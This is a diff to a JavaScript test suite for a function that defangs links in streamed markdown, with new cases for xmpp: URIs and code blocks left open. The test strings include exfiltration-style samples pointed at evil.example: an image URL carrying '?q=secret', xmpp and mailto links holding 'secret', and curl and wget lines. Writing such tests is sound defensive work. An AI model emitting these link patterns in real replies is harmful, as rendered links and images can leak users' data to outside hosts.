@@ -52,6 +52,10 @@ test.each([
   ['&#104;ttps://evil.example', '`hxxps://evil[.]example`'],
   ['[a](javascript:alert(1))', '[a] (`javascript[:]alert(1)`)'],
   ['[a](data:text/html;base64,PHg+)', '[a] (`data[:]text/html;base64,PHg+`)'],
+  ['at xmpp:a@evil.example/secret', 'at xmpp[:]a@evil.example/secret'],
+  ['XMPP&colon;a@evil.example/secret', 'XMPP[:]a@evil.example/secret'],
+  ['<xmpp:a@evil.example/secret>', '`xmpp[:]a@evil.example/secret`'],
+  ['[a](xmpp:a@evil.example/secret)', '[a] (`xmpp[:]a@evil.example/secret`)'],
   ['[a](mailto:a@b.example?body=secret)', '[a] (`mailto[:]a@b.example?body=secret`)'],
 ])('%j is made inert', (text, expected) => {
   expect(inert(text)).toBe(expected)
@@ -67,6 +71,7 @@ test.each([
   '[docs](docs/read\\_me.md#part) [up](../x) [root](/x/y) [here](#here) [mail](mailto:a@good.example) <a@evil.example>',
   'Write to a@evil.example; at 10:30, a/b, C:\\x, 1//2, x < y && y > z, e.g. Node.js, "a": [1], [2]: text [3](see below)',
   'x<sub>2</sub> and a<br>b',
+  'By xmpp: it is called XMPP:',
   'Use `https://evil.example` or ``curl `x` https://evil.example``.',
   'Run:\n\n```sh\ncurl https://evil.example <div>\n```\n\nDone.',
   '1. Run:\n   ```\n   curl https://evil.example\n   ```\n2. Then:\n   - this\n     ~~~\n     wget http://evil.example\n     ~~~\n',
@@ -76,6 +81,20 @@ test.each([
 ])('%j stays as it is', (text) => {
   expect(inert(text)).toBe(text)
   expect(through([...text])).toBe(text)
+})
+
+test.each([
+  ['```\n![a](https://evil.example/p.png?q=secret)', '```\n![a](https://evil.example/p.png?q=secret)\n```'],
+  ['```', '```\n```'],
+  ['~~~~sh\ncurl x\n~~~', '~~~~sh\ncurl x\n~~~\n~~~~'],
+  ['> ```\n> https://evil.example', '> ```\n> https://evil.example\n> ```'],
+  ['- a\n  - ```\n    https://evil.example\n', '- a\n  - ```\n    https://evil.example\n    ```'],
+  ['```\nx\n```', '```\nx\n```'],
+  ['```\nx\n````  ', '```\nx\n````  '],
+])('%j: a block of code that is left open is closed', (text, expected) => {
+  expect(inert(text)).toBe(expected)
+  expect(through([...text])).toBe(expected)
+  expect(liveIn(expected)).toEqual([])
 })
 
 describe('what is code for some renderers only is not taken for code', () => {
@@ -183,12 +202,12 @@ test('a long URL flows while it comes', () => {
   expect(links.push(') ok')).toBe('`) ok')
 })
 
-test('what is held back comes at the end of a turn, and code goes on after it', () => {
+test('what is held back comes at the end of a turn, and code ends there', () => {
   const links = createInertLinks(isNamed)
   expect(links.push('```\ncode htt')).toBe('```\ncode htt')
   expect(links.push('ps://evil.example\n')).toBe('ps://evil.example\n')
-  expect(links.flush()).toBe('')
-  expect(links.push('\n\nhttps://evil.example\n```\nhttp')).toBe('\n\nhttps://evil.example\n```\n')
+  expect(links.flush()).toBe('```')
+  expect(links.push('\n\nhttps://evil.example\nhttp')).toBe('\n\n`hxxps://evil[.]example`\n')
   expect(links.flush()).toBe('http')
   expect(links.push('\n\nhttps://evil.example ')).toBe('\n\n`hxxps://evil[.]example` ')
 })
